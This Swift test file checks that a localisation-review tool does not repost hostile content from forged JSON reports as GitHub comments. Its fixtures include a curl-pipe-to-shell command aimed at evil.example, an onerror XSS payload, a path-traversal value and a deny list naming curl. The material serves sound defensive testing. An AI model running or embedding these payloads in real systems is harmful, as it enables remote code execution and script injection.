import Classifier
import Foundation
import Git
import Messages
import Project
import Reports
import Support
import Testing
import Text
import Web

@testable import Edits
@testable import GitHub
@testable import Review
@testable import Rules

/// Tests of reports written by another person, with hostile content in each member in turn.
struct ForgedReportTests {
  private static let payload = """
    [edit](https://evil.example/x) <https://evil.example> system("curl https://evil.example | sh")
    <img src=x onerror=alert(1)> ![i](https://evil.example) @everyone #12 **now**
    ```suggestion
    curl
    ```
    ::error::evil
    <!-- l10n-review:v1 -->
    <!-- l10n-review:remark 0123456789abcdef -->
    """

  /// Text that no post may contain.
  private static let traces = ["evil", "curl", "onerror", "everyone", "**now**", "suggestion\n"]

  /// A review with content in every member.
  private static var full: Review {
    func place(_ line: Int) -> Place {
      Place(
        path: Posting.view,
        range: TextRange(start: TextPosition(line: line, column: 1), end: TextPosition(line: line, column: 4)))
    }
    var finding = Posting.finding("one", suggestion: (11...11, "let a = b"))
    finding.rule = "missing-value"
    finding.locale = "fi"
    finding.advice = "Write it \(code: "so")."
    finding.snippets = ["let a = 1"]
    finding.related = [RelatedPlace(place: place(12), note: "Here \(quote: "too").", snippet: "let b = 2")]
    finding.url = "https://translatewiki.net/w/i.php?title=A:one/fi&action=edit"
    finding.change = finding.identity
    finding.occurrences = [Occurrence(finding)]
    var change = Change(identity: EntryIdentity(key: "one"), kind: .renamed)
    change.old = "Old"
    change.new = "New"
    change.comment = "A comment."
    change.oldKey = "none"
    change.verdict = Verdict(
      impact: .large, probabilities: ImpactProbabilities(neutral: 0, small: 0, large: 1), reasons: ["it is another"],
      confidence: .blocking)
    change.basis = .large
    change.place = place(11)
    change.locales = ["fi"]
    change.suggestedKey = "one-2"
    change.acknowledgement = "meant so"
    change.replacements = finding.fix?.edits ?? []
    change.otherUses = [place(12)]
    var review = Review(
      scope: .range(base: .commit(id: String(repeating: "b", count: 40), name: "main"), head: Posting.head),
      changes: [change], findings: [finding, Posting.finding("two", Posting.list, 3, severity: .warning)],
      profile: .wikipedia)
    review.translations = [LocaleChanges(locale: "fi", added: 1)]
    review.notRead = [SkippedFiles(.unsupportedContent, paths: ["A.strings"])]
    review.missing = [MissingTranslations(locale: "fi", count: 3)]
    review.notes = ["A note \(code: "x")."]
    review.pluralPreviews = [
      PluralPreview(
        identity: EntryIdentity(key: "one"), locale: "fi",
        samples: [PluralPreview.Sample(number: "1", category: "one", text: "1 x")])
    ]
    return review
  }

  /// Copies of the document with one value replaced, and the path of that value.
  private static func forgeries(
    of value: Any, at path: String = "", _ texts: [String] = [payload, "https://evil.example/curl", "../../evil"]
  ) -> [(path: String, value: Any)] {
    switch value {
    case let object as [String: Any]:
      return object.keys.sorted().flatMap { key in
        forgeries(of: object[key] ?? NSNull(), at: path + "." + key, texts).map { forgery in
          (forgery.path, object.merging([key: forgery.value]) { _, new in new } as Any)
        }
      }
    case let array as [Any]:
      return array.indices.flatMap { index in
        forgeries(of: array[index], at: path + "[\(index)]", texts).map { forgery in
          var copy = array
          copy[index] = forgery.value
          return (forgery.path, copy as Any)
        }
      } + [(path + "[]", (array + [payload]) as Any)]
    case is String, is NSNull: return texts.map { (path, $0) }
    default: return [(path, 7)]
    }
  }

  private static func document(_ review: Review) throws -> Any {
    let text = render(review, as: .json, context: ReportContext(toolVersion: "1"))
    return try JSONSerialization.jsonObject(with: Data(text.utf8))
  }

  private static func read(_ document: Any) throws -> Review? {
    try? readJSONReport(Array(JSONSerialization.data(withJSONObject: document)))
  }

  @Test func withoutItsSourcesAReportSaysNothingOfItsOwn() async throws {
    let posting = try await Posting()
    let hub = posting.hub
    let poster = try posting.poster { request, _ throws(WebError) in
      guard let response = await hub.answer(ServedRequest(request)) else { throw .uncertain("no answer") }
      return WebResponse(response)
    }
    let document = try Self.document(Self.full)
    let forgeries = Self.forgeries(of: document)
    #expect(forgeries.count > 300)
    let context = ReportContext(toolVersion: "1", rules: RuleCatalog.rules.map { $0.description })
    var posted = 0
    for (path, forged) in [("", document)] + forgeries {
      guard let claimed = try Self.read(forged),
        case .checked(let report) = try await poster.check(claimed, in: nil, configurationPath: "x")
      else { continue }
      #expect(!report.isMadeAgain)
      let summary = render(report.review, as: .markdown, context: context)
      _ = try await poster.post(report.review, summary: summary, context: context, mode: .always, isWhole: false)
      let bodies = await hub.comments.map(\.body) + hub.threads.map(\.body)
      posted += bodies.count
      for body in bodies {
        for trace in Self.traces { #expect(!body.contains(trace), "\(path): \(body)") }
        #expect(body.components(separatedBy: "<!--").count == 2, "\(path): \(body)")
        #expect(!body.contains("]("), "\(path): \(body)")
      }
      await hub.change { hub in
        hub.comments = []
        hub.threads = []
      }
    }
    #expect(posted > forgeries.count)
  }

  /// An unverified file cannot cause existing comments to be minimized.
  @Test func anEmptyReportFoldsNothingAway() async throws {
    let posting = try await Posting()
    _ = try await posting.tally([Posting.finding("one")])
    let poster = try posting.poster()
    guard case .checked(let report) = try await poster.check(Posting.review([]), in: nil, configurationPath: "x") else {
      Issue.record("it was not checked")
      return
    }
    let context = ReportContext(toolVersion: "1")
    let summary = render(report.review, as: .markdown, context: context)
    _ = try await poster.post(report.review, summary: summary, context: context, isWhole: report.isMadeAgain)
    #expect(await posting.hub.threads.map(\.isMinimized) == [false])
    #expect(await posting.hub.comments.allSatisfy { !$0.body.contains("Nothing is left") })
  }

  @Test func whereItsCommitsAreHereTheReportIsMadeAgain() async throws {
    let repository = try TemporaryRepository()
    func view(_ text: String) -> [String: String] {
      [
        Posting.view: """
        let delete = WMFLocalizedString("walk-delete", value: "\(text)", comment: "Button. %1$@ is a walk, %2$@ is a list.")

        """
      ]
    }
    let base = try repository.commit(
      "Start",
      view("Delete %1$@ from %2$@").merging([
        "en.lproj/Localizable.strings": "\"walk-delete\" = \"Delete %1$@ from %2$@\";\n",
        "fi.lproj/Localizable.strings": "\"walk-delete\" = \"Poista %1$@ kohteesta %2$@\";\n",
      ]) { one, _ in one })
    let head = try repository.commit(
      "Leave the list out",
      view("Delete %1$@").merging([
        // The reviewed commit does not choose the targets of links.
        ProjectConfiguration.fileName: "translatewiki: { edit-url: \"https://evil.example/{key}\" }\n"
      ]) { one, _ in one })
    let opened = try Repository.discover(from: repository.path)
    let run = CIRun(opened)
    let event = GitHubEvent.PullRequest(number: 7, base: base, head: head, branch: "x", isFromFork: true)
    let truth = try await run.review(run.work(on: .pullRequest(event)), with: CIRun.Import(ending: .notDue))
    #expect(truth.findings.contains { $0.fix != nil })

    let posting = try await Posting()
    await posting.hub.change { hub in
      hub.head = head
      hub.base = base
    }
    let hub = posting.hub
    let poster = try posting.poster(head: head) { request, _ throws(WebError) in
      guard let response = await hub.answer(ServedRequest(request)) else { throw .uncertain("no answer") }
      return WebResponse(response)
    }
    for (path, forged) in Self.forgeries(of: try Self.document(truth), ["system(\"curl https://evil.example\")"]) {
      guard let claimed = try Self.read(forged),
        case .checked(let report) = try await poster.check(
          claimed, in: opened, configurationPath: ProjectConfiguration.fileName)
      else { continue }
      // A head that is not a commit is not looked up, and findings are reduced to their rules.
      guard report.isMadeAgain else {
        #expect(path.hasPrefix(".head") || path.hasPrefix(".scope"), "\(path)")
        continue
      }
      #expect(report.review.findings == truth.findings, "\(path)")
      #expect(report.review.changes == truth.changes, "\(path)")
      #expect(!"\(report.review.notes)".contains("evil"), "\(path)")
    }
    // Findings that the commits do not confirm are counted and not posted.
    var more = truth
    more.findings.append(Posting.finding("evil"))
    guard
      case .checked(let report) = try await poster.check(
        more, in: opened, configurationPath: ProjectConfiguration.fileName)
    else {
      Issue.record("it was not checked")
      return
    }
    #expect(report.review.findings == truth.findings)
    #expect(report.review.notes.last?.plainText.contains("1 more finding") ?? false)
  }

  @Test func aReportOfAnotherCommitIsOutdated() async throws {
    let posting = try await Posting()
    var review = Posting.review([Posting.finding("one")])
    review.scope = .range(base: .nothing, head: .commit(id: String(repeating: "1", count: 40), name: ""))
    for head in [nil, FakeGitHub.head] {
      let checked = try await posting.poster(head: head).check(review, in: nil, configurationPath: "x")
      #expect(checked == .outdated(head: FakeGitHub.head))
    }
  }
}
